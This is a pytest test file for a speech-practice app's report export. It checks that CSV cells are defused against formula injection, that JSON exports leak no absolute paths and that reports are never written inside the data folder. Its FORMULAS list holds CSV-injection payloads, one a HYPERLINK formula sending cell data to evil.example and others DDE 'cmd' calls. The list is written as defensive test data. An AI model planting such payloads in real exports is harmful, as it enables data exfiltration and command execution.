"""Exports never harm: no formula runs from a CSV, no absolute path leaks, nothing lands in the data folder
(issue 14, items 3, 5 and 8)."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import numpy as np
import pytest

from pitchcoach.core.report import (
    ReportError,
    build_progress_report,
    build_take_report,
    export_report,
    render_csv,
    write_report_bytes,
)
from tests.core.report.helpers import T0
from tests.speech import TEXTS

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(report) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render_csv(report), newline="")))


def test_every_cell_that_could_run_as_a_formula_is_neutralised(store, add) -> None:
    for i, bad in enumerate(FORMULAS):
        add(TEXTS["great_pitch"], T0 + timedelta(hours=i), title=bad, note=bad)
    report = build_progress_report(store.list(), recordings_dir=store.paths.recordings)
    rows = _csv_rows(report)
    assert len(rows) == len(FORMULAS)
    for row, bad in zip(rows, FORMULAS, strict=True):
        assert row["title"] == "'" + bad.strip() or row["title"] == "'" + bad, row["title"]
        assert row["note"].startswith("'")
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(value), value


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_numbers_and_ordinary_text_are_left_as_they_are(store, add) -> None:
    add(TEXTS["great_pitch"], T0, title="Pitch v2 - shorter", note="-3 s shorter than last time")
    [row] = _csv_rows(build_progress_report(store.list()))
    assert row["title"] == "Pitch v2 - shorter"
    assert row["note"] == "'-3 s shorter than last time"  # starts with "-" and is not a number
    assert float(row["overall"]) > 0


def test_json_exports_name_audio_relative_to_the_data_folder(store, add) -> None:
    first = add(TEXTS["great_pitch"], T0)
    take = store.save_take(first.analysis, np.zeros(1600, np.float32), created_at=T0 + timedelta(1))
    assert take.audio_path is not None and take.audio_path.is_absolute()
    home = str(Path.home())
    for report in (
        build_take_report(take, recordings_dir=store.paths.recordings),
        build_progress_report(store.list(), recordings_dir=store.paths.recordings),
    ):
        out = store.paths.root.parent / f"out-{report.kind}.json"
        export_report(report, "json", out, data_folder=store.paths.root)
        text = out.read_text(encoding="utf-8")
        data = json.loads(text)
        takes = data["takes"] if "takes" in data else [data["take"]]
        assert [t["audio_path"] for t in takes if t["audio_path"]] == [f"recordings/{take.audio_path.name}"]
        assert str(store.paths.root) not in text and home not in text


@pytest.mark.parametrize("where", ["database", "wal", "recording", "folder", "symlink"])
def test_a_report_is_never_written_inside_the_data_folder(store, add, tmp_path, where) -> None:
    take = add(TEXTS["great_pitch"], T0)
    take = store.save_take(take.analysis, np.zeros(1600, np.float32), created_at=T0 + timedelta(1))
    paths = store.paths
    targets = {
        "database": paths.database,
        "wal": paths.database.with_name(paths.database.name + "-wal"),
        "recording": take.audio_path,
        "folder": paths.recordings / "report.json",
        "symlink": tmp_path / "link" / "pitchcoach.sqlite3",
    }
    (tmp_path / "link").symlink_to(paths.root)
    target = targets[where]
    before = target.read_bytes() if target.exists() else None
    report = build_take_report(take, recordings_dir=paths.recordings)
    with pytest.raises(ReportError, match="inside PitchCoach's data folder"):
        export_report(report, "json", target, data_folder=paths.root)
    with pytest.raises(ReportError, match="inside PitchCoach's data folder"):
        write_report_bytes(target, b"{}", data_folder=paths.root)
    assert (target.read_bytes() if target.exists() else None) == before
    assert store.count() == 2  # the history is intact
